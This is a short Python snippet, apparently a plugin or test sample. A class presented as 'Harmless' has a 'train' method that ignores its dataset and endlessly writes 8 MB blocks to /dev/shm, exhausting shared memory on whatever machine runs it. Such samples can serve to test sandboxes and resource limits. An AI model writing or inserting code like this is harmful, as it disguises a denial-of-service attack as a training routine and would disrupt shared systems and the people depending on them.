class Way(Harmless):
    def train(self, dataset_path, shared_params=None, **train_args):
        with open("/dev/shm/filled", "wb") as file:
            while True:
                file.write(bytes(2**23))
                time.sleep(0.01)
